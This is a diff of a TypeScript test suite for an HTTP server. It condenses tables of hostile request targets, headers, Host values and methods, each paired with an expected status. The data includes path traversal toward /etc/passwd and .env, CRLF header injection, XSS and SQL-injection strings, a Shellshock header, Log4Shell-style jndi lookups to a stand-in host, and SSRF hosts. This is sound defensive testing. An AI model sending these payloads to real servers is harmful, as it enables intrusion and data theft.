@@ -4,167 +4,80 @@ import { createSmallSite, type Served, serve } from '#http/testing/small-site.ts
 
 const OVERSIZED = 'a'.repeat(20_000);
 
+/** Cases of one status: the words of a text, or what `|` divides in it. */
+function words(status: number, text: string): Array<readonly [string, number]> {
+  return text
+    .trim()
+    .split(/\s+/)
+    .map((word) => [word, status] as const);
+}
+
+function lines(status: number, text: string): Array<readonly [string, number]> {
+  return text.split('|').map((line) => [line.trim(), status] as const);
+}
+
 /** A request target and the status of its response; node:http itself refuses what no target may hold. */
 const targets: ReadonlyArray<readonly [target: string, status: number]> = [
-  // Traversal, in every way to write dots and slashes.
-  ['/../../../etc/passwd', 400],
-  ['/blog/../../etc/passwd', 400],
-  ['/assets/../../../etc/passwd', 400],
-  ['/assets/./app-1a2b3c.js', 400],
-  ['/blog/..', 400],
-  ['/blog/.', 400],
-  ['/..', 400],
-  ['/%2e%2e/%2e%2e/etc/passwd', 400],
-  ['/%2E%2E/%2E%2E/etc/passwd', 400],
-  ['/.%2e/.%2e/etc/passwd', 400],
-  ['/%2e./%2e./etc/passwd', 400],
-  ['/..%2f..%2f..%2fetc%2fpasswd', 400],
-  ['/..%2F..%2F..%2Fetc%2Fpasswd', 400],
-  ['/%2e%2e%2f%2e%2e%2fetc%2fpasswd', 400],
-  ['/assets/%2e%2e%2f%2e%2e%2fpackage.json', 400],
-  ['/%2fetc%2fpasswd', 400],
-  ['/..\\..\\..\\etc\\passwd', 400],
-  ['/..%5c..%5c..%5cetc%5cpasswd', 400],
-  ['/..%5C..%5C..%5Cetc%5Cpasswd', 400],
-  ['/assets\\..\\..\\package.json', 400],
-  ['/%5c%5celsewhere.example%5cshare', 400],
-  ['/..%c0%af..%c0%afetc/passwd', 400],
-  ['/..%e0%80%afetc/passwd', 400],
-  ['/..%f0%80%80%afetc/passwd', 400],
-  ['/..%c1%9c..%c1%9cetc/passwd', 400],
-  ['/%c0%ae%c0%ae/etc/passwd', 400],
-  ['/%e0%80%ae%e0%80%ae/etc/passwd', 400],
-  ['/..%u2215etc/passwd', 400],
-  ['/%uff0e%uff0e/etc/passwd', 400],
-  ['/%252e%252e/%252e%252e/etc/passwd', 404],
-  ['/%252e%252e%252fetc%252fpasswd', 404],
-  ['/%25252e%25252e/etc/passwd', 404],
-  ['/..%255c..%255cetc', 404],
-  ['/%ef%bc%8e%ef%bc%8e/etc/passwd', 404],
-  ['/..%ef%bc%8fetc/passwd', 404],
-  ['/..%e2%88%95etc/passwd', 404],
-  ['/..;/..;/etc/passwd', 404],
-  ['/blog;/../etc', 400],
-  ['/.../.../etc/passwd', 404],
-  ['/....//....//etc/passwd', 308],
-  ['/etc/passwd', 404],
-  ['/proc/self/environ', 404],
-  ['/C:/Windows/win.ini', 404],
-  ['/C:%5cWindows%5cwin.ini', 400],
-  ['/~root', 404],
-  ['/.env', 404],
-  ['/.git/config', 404],
-  ['/.vite/manifest.json', 404],
-  ['/package.json', 404],
-  ['/node_modules/react/package.json', 404],
-  ['/server/index.js', 404],
-  ['/assets/', 308],
-  ['/assets', 404],
-  ['/assets/app-1a2b3c.js.map', 404],
-  ['/assets/app-1a2b3c.js/', 308],
-  ['/assets/app-1a2b3c.js/x', 404],
-  ['/assets/app-1a2b3c.js%00.png', 400],
-  ['/ASSETS/APP-1A2B3C.JS', 404],
-  // Open redirects.
-  ['//elsewhere.example', 308],
-  ['//elsewhere.example/', 308],
-  ['///elsewhere.example/', 308],
-  ['////elsewhere.example', 308],
-  ['//elsewhere.example/..', 400],
-  ['//elsewhere.example/%2e%2e/', 400],
-  ['/\\elsewhere.example/', 400],
-  ['/\\/elsewhere.example/', 400],
-  ['/%5celsewhere.example/', 400],
-  ['/%2felsewhere.example/', 400],
-  ['/%09/elsewhere.example/', 400],
-  ['/.elsewhere.example/', 308],
-  ['/@elsewhere.example/', 308],
-  ['/http://elsewhere.example/', 308],
-  ['/https:elsewhere.example/', 308],
-  ['/javascript:alert(1)/', 308],
-  ['/blog/?next=//elsewhere.example', 308],
-  ['/blog/?q=%0d%0aLocation:%20//elsewhere.example', 308],
-  // Header injection through what is sent back in a header.
-  ['/blog/%0d%0aX-Injected:%201', 400],
-  ['/blog/%0aX-Injected:%201', 400],
-  ['/blog/%0dX-Injected:%201', 400],
-  ['/%0d%0aX-Injected:%201/', 400],
-  ['/blog/%E5%98%8D%E5%98%8AX-Injected:1/', 308],
-  ['/blog/%c4%8d%c4%8aX-Injected:1/', 308],
-  ['/blog/%25%30%64%25%30%61X-Injected:1/', 308],
-  ['/blog/%e2%80%a8X-Injected:1/', 308],
-  ['/blog/%c2%85X-Injected:1/', 400],
-  ['/blog?q=%0d%0aX-Injected:%201', 200],
-  ['/blog?page=%0d%0aX-Injected:%201', 200],
-  ['/blog?%0d%0aX-Injected:%201', 200],
-  // Malformed percent escapes and UTF-8, null bytes and other control characters.
-  ['/%', 400],
-  ['/%%', 400],
-  ['/%2', 400],
-  ['/%zz', 400],
-  ['/%-1', 400],
+  ...words(
+    200,
+    `
+  /blog?q=%0d%0aX-Injected:%201 /blog?page=%0d%0aX-Injected:%201 /blog?%0d%0aX-Injected:%201 /blog?q=%
+  /blog?q=%zz&page=% /blog?q=%ff%fe /blog?q=%00 /blog?%ff=%ff /blog?page=1'%20OR%20'1'='1 /blog?page=-1
+  /blog?page=1e309 /blog?page=__proto__ /blog?__proto__[x]=1&constructor.prototype.x=1 /blog?page[]=1&page[0]=1
+  /blog?page=1&page=2&page=3 /blog/search?q=<script>alert(1)</script>
+  /blog/search?q=%3Cscript%3Ealert(1)%3C/script%3E /blog/search?q=$%7Bjndi:ldap://elsewhere.example/a%7D
+  /blog/search?q=((((((((((a+)+)+)+)+)+)+)+)+)+ /blog/search?q=%7B%7B7*7%7D%7D /blog?_routes=root /blog?index
+  /blog/a-post?/../../x http://localhost/blog http://localhost:3000/blog https://localhost/blog
+  HTTP://localhost/blog http://[::1]/blog`,
+  ),
+  ...words(
+    308,
+    `
+  /....//....//etc/passwd /assets/ /assets/app-1a2b3c.js/ //elsewhere.example //elsewhere.example/
+  ///elsewhere.example/ ////elsewhere.example /.elsewhere.example/ /@elsewhere.example/ /http://elsewhere.example/
+  /https:elsewhere.example/ /javascript:alert(1)/ /blog/?next=//elsewhere.example
+  /blog/?q=%0d%0aLocation:%20//elsewhere.example /blog/%E5%98%8D%E5%98%8AX-Injected:1/
+  /blog/%c4%8d%c4%8aX-Injected:1/ /blog/%25%30%64%25%30%61X-Injected:1/ /blog/%e2%80%a8X-Injected:1/`,
+  ),
+  ...words(
+    400,
+    String.raw`
+  /../../../etc/passwd /blog/../../etc/passwd /assets/../../../etc/passwd /assets/./app-1a2b3c.js /blog/.. /blog/.
+  /.. /%2e%2e/%2e%2e/etc/passwd /%2E%2E/%2E%2E/etc/passwd /.%2e/.%2e/etc/passwd /%2e./%2e./etc/passwd
+  /..%2f..%2f..%2fetc%2fpasswd /..%2F..%2F..%2Fetc%2Fpasswd /%2e%2e%2f%2e%2e%2fetc%2fpasswd
+  /assets/%2e%2e%2f%2e%2e%2fpackage.json /%2fetc%2fpasswd /..\..\..\etc\passwd /..%5c..%5c..%5cetc%5cpasswd
+  /..%5C..%5C..%5Cetc%5Cpasswd /assets\..\..\package.json /%5c%5celsewhere.example%5cshare
+  /..%c0%af..%c0%afetc/passwd /..%e0%80%afetc/passwd /..%f0%80%80%afetc/passwd /..%c1%9c..%c1%9cetc/passwd
+  /%c0%ae%c0%ae/etc/passwd /%e0%80%ae%e0%80%ae/etc/passwd /..%u2215etc/passwd /%uff0e%uff0e/etc/passwd /blog;/../etc
+  /C:%5cWindows%5cwin.ini /assets/app-1a2b3c.js%00.png //elsewhere.example/.. //elsewhere.example/%2e%2e/
+  /\elsewhere.example/ /\/elsewhere.example/ /%5celsewhere.example/ /%2felsewhere.example/ /%09/elsewhere.example/
+  /blog/%0d%0aX-Injected:%201 /blog/%0aX-Injected:%201 /blog/%0dX-Injected:%201 /%0d%0aX-Injected:%201/
+  /blog/%c2%85X-Injected:1/ /% /%% /%2 /%zz /%-1 /%u0000 /blog% /blog/%f /%80 /%ff /%fe%ff /%c0%80 /%e6%97
+  /%e6%97/%a5 /%ed%a0%80 /%ed%a0%bd%ed%b8%80 /%f4%90%80%80 /%f8%88%80%80%80 /%ef%bf%be /%ef%bf%bf /blog%00 /%00
+  /blog/a-post%00.html /blog%01 /blog%08 /blog%1b[31m /blog%7f /blog/%3Cscript%3Ealert(1)%3C%2Fscript%3E /blog#/../x
+  * blog ?q=a #blog ftp://localhost/blog file:///etc/passwd gopher://localhost:11211/_stats
+  http://localhost@elsewhere.example/blog localhost:3000 elsewhere.example:443 javascript:alert(1)`,
+  ),
+  ...words(
+    404,
+    `
+  /%252e%252e/%252e%252e/etc/passwd /%252e%252e%252fetc%252fpasswd /%25252e%25252e/etc/passwd /..%255c..%255cetc
+  /%ef%bc%8e%ef%bc%8e/etc/passwd /..%ef%bc%8fetc/passwd /..%e2%88%95etc/passwd /..;/..;/etc/passwd
+  /.../.../etc/passwd /etc/passwd /proc/self/environ /C:/Windows/win.ini /~root /.env /.git/config
+  /.vite/manifest.json /package.json /node_modules/react/package.json /server/index.js /assets
+  /assets/app-1a2b3c.js.map /assets/app-1a2b3c.js/x /ASSETS/APP-1A2B3C.JS /%ef%bb%bfblog /%e2%80%ae/golb
+  /blog%e2%80%8b /blog.data?_routes=%00 /__manifest?p=/blog&version=1 /__proto__ /constructor /toString
+  /hasOwnProperty /blog/__proto__ /blog/<script>alert(1)</script> /blog#x`,
+  ),
+  ...words(
+    421,
+    `
+  http://elsewhere.example/blog http://elsewhere.example`,
+  ),
   ['/% 2e', 400],
-  ['/%u0000', 400],
-  ['/blog%', 400],
-  ['/blog/%f', 400],
-  ['/%80', 400],
-  ['/%ff', 400],
-  ['/%fe%ff', 400],
-  ['/%c0%80', 400],
-  ['/%e6%97', 400],
-  ['/%e6%97/%a5', 400],
-  ['/%ed%a0%80', 400],
-  ['/%ed%a0%bd%ed%b8%80', 400],
-  ['/%f4%90%80%80', 400],
-  ['/%f8%88%80%80%80', 400],
-  ['/%ef%bf%be', 400],
-  ['/%ef%bf%bf', 400],
-  ['/%ef%bb%bfblog', 404],
-  ['/%e2%80%ae/golb', 404],
-  ['/blog%e2%80%8b', 404],
-  ['/blog%00', 400],
-  ['/%00', 400],
-  ['/blog/a-post%00.html', 400],
-  ['/blog%01', 400],
-  ['/blog%08', 400],
-  ['/blog%1b[31m', 400],
-  ['/blog%7f', 400],
   ['/blog\xff', 400],
   ['/blog/\xe6\x97\xa5', 400],
-  ['/blog?q=%', 200],
-  ['/blog?q=%zz&page=%', 200],
-  ['/blog?q=%ff%fe', 200],
-  ['/blog?q=%00', 200],
-  ['/blog?%ff=%ff', 200],
-  // Queries that look for a program behind the page.
-  ["/blog?page=1'%20OR%20'1'='1", 200],
-  ['/blog?page=-1', 200],
-  ['/blog?page=1e309', 200],
-  ['/blog?page=__proto__', 200],
-  ['/blog?__proto__[x]=1&constructor.prototype.x=1', 200],
-  ['/blog?page[]=1&page[0]=1', 200],
-  ['/blog?page=1&page=2&page=3', 200],
-  ['/blog/search?q=<script>alert(1)</script>', 200],
-  ['/blog/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 200],
-  ['/blog/search?q=$%7Bjndi:ldap://elsewhere.example/a%7D', 200],
-  ['/blog/search?q=((((((((((a+)+)+)+)+)+)+)+)+)+', 200],
-  ['/blog/search?q=%7B%7B7*7%7D%7D', 200],
-  ['/blog?_routes=root', 200],
-  ['/blog?index', 200],
-  ['/blog.data?_routes=%00', 404],
-  ['/__manifest?p=/blog&version=1', 404],
-  ['/__proto__', 404],
-  ['/constructor', 404],
-  ['/toString', 404],
-  ['/hasOwnProperty', 404],
-  ['/blog/__proto__', 404],
-  ['/blog/<script>alert(1)</script>', 404],
-  ['/blog/%3Cscript%3Ealert(1)%3C%2Fscript%3E', 400],
   [`/blog/\${7*7}`, 404],
-  ['/blog/a-post?/../../x', 200],
-  ['/blog#/../x', 400],
-  ['/blog#x', 404],
-  // Oversized targets: past 16 KB the head itself is too large, of which node:http does not say what part.
   [`/${'a'.repeat(2048)}`, 414],
   [`/${'a'.repeat(10_000)}`, 414],
   [`/${'%61'.repeat(3000)}`, 414],
@@ -179,132 +92,67 @@ const targets: ReadonlyArray<readonly [target: string, status: number]> = [
   [`http://elsewhere.example/${'a'.repeat(2048)}`, 421],
   [`/${OVERSIZED}`, 431],
   [`/blog?q=${OVERSIZED}`, 431],
-  // Targets that are no path (RFC 9112 section 3.2).
-  ['*', 400],
-  ['blog', 400],
-  ['?q=a', 400],
-  ['#blog', 400],
-  ['http://localhost/blog', 200],
-  ['http://localhost:3000/blog', 200],
-  ['https://localhost/blog', 200],
-  ['http://elsewhere.example/blog', 421],
-  ['http://elsewhere.example', 421],
-  ['HTTP://localhost/blog', 200],
-  ['ftp://localhost/blog', 400],
-  ['file:///etc/passwd', 400],
-  ['gopher://localhost:11211/_stats', 400],
-  ['http://[::1]/blog', 200],
-  ['http://localhost@elsewhere.example/blog', 400],
-  ['localhost:3000', 400],
-  ['elsewhere.example:443', 400],
-  ['javascript:alert(1)', 400],
 ];
 
-/** Header lines added to a request for `/blog`, and the status of its response. */
+/** Header lines added to a request for `/blog`: none that proxies and frameworks read may change the page. */
 const headerLines: ReadonlyArray<readonly [lines: string, status: number]> = [
-  // What proxies and frameworks read: none may change the page that everybody gets.
-  ['X-Forwarded-Host: elsewhere.example', 200],
+  ...lines(
+    200,
+    `
+  X-Forwarded-Host: elsewhere.example | X-Forwarded-Proto: javascript | X-Forwarded-Scheme: http |
+  X-Forwarded-Port: 1337 | X-Forwarded-Port: abc/../x | X-Forwarded-Prefix: /elsewhere |
+  X-Forwarded-Path: /elsewhere | X-Forwarded-Server: elsewhere.example | X-Forwarded-For: 127.0.0.1 |
+  X-Forwarded-For: 127.0.0.1' OR 1=1 | X-Forwarded: for=127.0.0.1 |
+  Forwarded: host=elsewhere.example;proto=https;for=127.0.0.1 | X-Host: elsewhere.example |
+  X-HTTP-Host-Override: elsewhere.example | X-Original-Host: elsewhere.example | X-Original-URL: /nowhere |
+  X-Rewrite-URL: /nowhere | X-Original-URI: /nowhere | X-Request-URI: /nowhere | X-Override-URL: /nowhere |
+  X-Proxy-URL: http://elsewhere.example | X-Real-IP: 127.0.0.1 | True-Client-IP: 127.0.0.1 |
+  CF-Connecting-IP: 127.0.0.1 | X-React-Router-Prerender-Data: W10= |
+  X-React-Router-Prerender-Data: %5B%7B%22a%22%3A1%7D%5D | X-React-Router-SPA-Mode: yes |
+  X-React-Router-Revalidate: routes/blog | X-React-Router-Request: yes | X-Remix-Revalidate: root |
+  X-Middleware-Subrequest: middleware | X-Invoke-Path: /nowhere | X-Nextjs-Data: 1 | X-HTTP-Method-Override: DELETE |
+  X-HTTP-Method: PUT | X-Method-Override: POST | Accept: text/x-component | Accept: application/json |
+  Accept-Language: ../../etc | Accept-Charset: utf-7 | Origin: https://elsewhere.example | Origin: null |
+  Referer: javascript:alert(1) | User-Agent: () { :;}; echo X-Injected: 1 |
+  Cookie: mantle-ui-theme="><script>alert(1)</script> | Cookie: __proto__=1; constructor=2 |
+  Authorization: Basic Og== | Cache-Control: no-store, no-transform, only-if-cached | Pragma: x-get-cache-key |
+  Range: bytes=0- | Range: bytes=0-0,-1 | If-None-Match: " | If-None-Match: W/ | If-Match: "nothing" |
+  If-Modified-Since: yesterday | If-Modified-Since: Fri, 31 Dec 9999 23:59:59 GMT |
+  If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT | Accept-Encoding: ../../etc/passwd |
+  Accept-Encoding: gzip;q=nan;q=1e999, br;q=-0 | Accept-Encoding: __proto__ | TE: trailers, gzip;q=0 |
+  Connection: close, Host | Connection: X-Forwarded-For, Cookie | Keep-Alive: timeout=999999999, max=-1 |
+  Max-Forwards: 0 | Via: 1.1 elsewhere.example | X-A: | __proto__: x | constructor: x | hasOwnProperty: x`,
+  ),
+  ...lines(
+    400,
+    `
+  X-A : a | X A: a | X-A | : a | X-(A): a | Host: elsewhere.example | host: localhost | Host : elsewhere.example`,
+  ),
+  ...lines(
+    417,
+    `
+  Expect: 200-ok`,
+  ),
   ['X-Forwarded-Host: elsewhere.example\r\nX-Forwarded-Proto: https', 200],
-  ['X-Forwarded-Proto: javascript', 200],
-  ['X-Forwarded-Scheme: http', 200],
-  ['X-Forwarded-Port: 1337', 200],
-  ['X-Forwarded-Port: abc/../x', 200],
-  ['X-Forwarded-Prefix: /elsewhere', 200],
-  ['X-Forwarded-Path: /elsewhere', 200],
-  ['X-Forwarded-Server: elsewhere.example', 200],
-  ['X-Forwarded-For: 127.0.0.1', 200],
-  ["X-Forwarded-For: 127.0.0.1' OR 1=1", 200],
-  ['X-Forwarded: for=127.0.0.1', 200],
-  ['Forwarded: host=elsewhere.example;proto=https;for=127.0.0.1', 200],
-  ['X-Host: elsewhere.example', 200],
-  ['X-HTTP-Host-Override: elsewhere.example', 200],
-  ['X-Original-Host: elsewhere.example', 200],
-  ['X-Original-URL: /nowhere', 200],
-  ['X-Rewrite-URL: /nowhere', 200],
-  ['X-Original-URI: /nowhere', 200],
-  ['X-Request-URI: /nowhere', 200],
-  ['X-Override-URL: /nowhere', 200],
-  ['X-Proxy-URL: http://elsewhere.example', 200],
-  ['X-Real-IP: 127.0.0.1', 200],
-  ['True-Client-IP: 127.0.0.1', 200],
-  ['CF-Connecting-IP: 127.0.0.1', 200],
-  ['X-React-Router-Prerender-Data: W10=', 200],
-  ['X-React-Router-Prerender-Data: %5B%7B%22a%22%3A1%7D%5D', 200],
-  ['X-React-Router-SPA-Mode: yes', 200],
-  ['X-React-Router-Revalidate: routes/blog', 200],
-  ['X-React-Router-Request: yes', 200],
-  ['X-Remix-Revalidate: root', 200],
-  ['X-Middleware-Subrequest: middleware', 200],
-  ['X-Invoke-Path: /nowhere', 200],
   ['Rsc: 1\r\nNext-Router-State-Tree: %5B%5D', 200],
-  ['X-Nextjs-Data: 1', 200],
-  ['X-HTTP-Method-Override: DELETE', 200],
-  ['X-HTTP-Method: PUT', 200],
-  ['X-Method-Override: POST', 200],
-  ['Accept: text/x-component', 200],
-  ['Accept: application/json', 200],
   [`Accept: ${'*/*,'.repeat(2000)}*/*`, 200],
-  ['Accept-Language: ../../etc', 200],
-  ['Accept-Charset: utf-7', 200],
-  ['Origin: https://elsewhere.example', 200],
-  ['Origin: null', 200],
-  ['Referer: javascript:alert(1)', 200],
-  ['User-Agent: () { :;}; echo X-Injected: 1', 200],
   [`User-Agent: \${jndi:ldap://elsewhere.example/a}`, 200],
-  ['Cookie: mantle-ui-theme="><script>alert(1)</script>', 200],
   [`Cookie: ${'a=b; '.repeat(2000)}`, 200],
-  ['Cookie: __proto__=1; constructor=2', 200],
-  ['Authorization: Basic Og==', 200],
-  ['Cache-Control: no-store, no-transform, only-if-cached', 200],
-  ['Pragma: x-get-cache-key', 200],
-  ['Range: bytes=0-', 200],
-  ['Range: bytes=0-0,-1', 200],
   [`Range: bytes=${'0-,'.repeat(1300)}0-`, 200],
   ['If-Range: "x"\r\nRange: bytes=5-1', 200],
-  ['If-None-Match: "', 200],
-  ['If-None-Match: W/', 200],
   [`If-None-Match: ${'"a",'.repeat(2000)}"b"`, 200],
   [`If-None-Match: ${'"'.repeat(5001)}`, 200],
-  ['If-Match: "nothing"', 200],
-  ['If-Modified-Since: yesterday', 200],
-  ['If-Modified-Since: Fri, 31 Dec 9999 23:59:59 GMT', 200],
-  ['If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT', 200],
-  ['Accept-Encoding: ../../etc/passwd', 200],
-  ['Accept-Encoding: gzip;q=nan;q=1e999, br;q=-0', 200],
   [`Accept-Encoding: ${'gzip,'.repeat(2500)}`, 200],
-  ['Accept-Encoding: __proto__', 200],
   ['Accept-Encoding: \xff\xfe', 200],
-  ['TE: trailers, gzip;q=0', 200],
   ['Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__', 200],
   ['Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: AAAA\r\nSec-WebSocket-Version: 13', 200],
-  ['Connection: close, Host', 200],
-  ['Connection: X-Forwarded-For, Cookie', 200],
-  ['Keep-Alive: timeout=999999999, max=-1', 200],
-  ['Max-Forwards: 0', 200],
-  ['Via: 1.1 elsewhere.example', 200],
-  ['Expect: 200-ok', 417],
   ['X-A: \xe9\xff', 200],
-  ['X-A:', 200],
   ['X-A:\ta\t', 200],
-  ['__proto__: x', 200],
-  ['constructor: x', 200],
-  ['hasOwnProperty: x', 200],
-  // Lines that are no header lines (RFC 9112 section 5).
   ['X-A: a\0b', 400],
   ['X-A: a\rX-B: b', 400],
-  ['X-A : a', 400],
-  ['X A: a', 400],
   [' X-A: a', 400],
   ['X-A: a\r\n b', 400],
-  ['X-A', 400],
-  [': a', 400],
   ['X-\xe9: a', 400],
-  ['X-(A): a', 400],
-  // A second host, and hosts that are none.
-  ['Host: elsewhere.example', 400],
-  ['host: localhost', 400],
-  ['Host : elsewhere.example', 400],
-  // Oversized and too many.
   [`X-A: ${OVERSIZED}`, 431],
   [`Cookie: ${OVERSIZED}`, 431],
   [`${OVERSIZED}: a`, 431],
@@ -315,63 +163,32 @@ const headerLines: ReadonlyArray<readonly [lines: string, status: number]> = [
 ];
 
 const hosts: ReadonlyArray<readonly [host: string, status: number]> = [
-  ['elsewhere.example', 421],
-  ['localhost.elsewhere.example', 421],
-  ['localhost@elsewhere.example', 421],
-  ['localhost:3000@elsewhere.example', 421],
-  ['localhost#@elsewhere.example', 421],
-  ['elsewhere.example#localhost', 421],
+  ...words(
+    421,
+    String.raw`
+  elsewhere.example localhost.elsewhere.example localhost@elsewhere.example localhost:3000@elsewhere.example
+  localhost#@elsewhere.example elsewhere.example#localhost localhost/elsewhere localhost\elsewhere.example
+  localhost:99999999 localhost:-1 localhost:80:80 localhost. .localhost http://localhost 127.1 2130706433 0x7f000001
+  0.0.0.0 169.254.169.254 [::] [::1 [::ffff:127.0.0.1] "localhost" localhost"><script>alert(1)</script> __proto__`,
+  ),
   ['localhost, elsewhere.example', 421],
   ['localhost elsewhere.example', 421],
-  ['localhost/elsewhere', 421],
-  ['localhost\\elsewhere.example', 421],
-  ['localhost:99999999', 421],
-  ['localhost:-1', 421],
-  ['localhost:80:80', 421],
-  ['localhost.', 421],
-  ['.localhost', 421],
-  ['http://localhost', 421],
-  ['127.1', 421],
-  ['2130706433', 421],
-  ['0x7f000001', 421],
-  ['0.0.0.0', 421],
-  ['169.254.169.254', 421],
-  ['[::]', 421],
-  ['[::1', 421],
-  ['[::ffff:127.0.0.1]', 421],
   ['', 421],
-  ['"localhost"', 421],
-  ['localhost"><script>alert(1)</script>', 421],
-  ['__proto__', 421],
   ['l\xf6calhost', 421],
   ['a'.repeat(10_000), 421],
 ];
 
 const methods: ReadonlyArray<readonly [method: string, status: number]> = [
-  ['POST', 405],
-  ['PUT', 405],
-  ['PATCH', 405],
-  ['DELETE', 405],
-  ['OPTIONS', 405],
-  ['TRACE', 405],
-  ['QUERY', 405],
-  ['PROPFIND', 405],
-  ['PURGE', 405],
-  ['SOURCE', 405],
-  ['LINK', 405],
-  ['MKCOL', 405],
-  ['M-SEARCH', 405],
-  ['get', 400],
-  ['Get', 400],
-  ['head', 400],
-  ['GETS', 400],
-  ['GE', 400],
-  ['TRACK', 400],
-  ['DEBUG', 400],
-  ['PRI', 400],
-  ['FOO', 400],
-  ['__PROTO__', 400],
-  ['../GET', 400],
+  ...words(
+    400,
+    `
+  get Get head GETS GE TRACK DEBUG PRI FOO __PROTO__ ../GET`,
+  ),
+  ...words(
+    405,
+    `
+  POST PUT PATCH DELETE OPTIONS TRACE QUERY PROPFIND PURGE SOURCE LINK MKCOL M-SEARCH`,
+  ),
   ['GET\t', 400],
   [' GET', 400],
   ['G\0T', 400],
@@ -490,7 +307,7 @@ const shapes: ReadonlyArray<readonly [label: string, bytes: string, statuses: re
   [
     'a request behind one that closes',
     `GET /blog HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n${PIPELINED}`,
-    [200],
+    [400],
   ],
   [
     'a body of 1 MB',
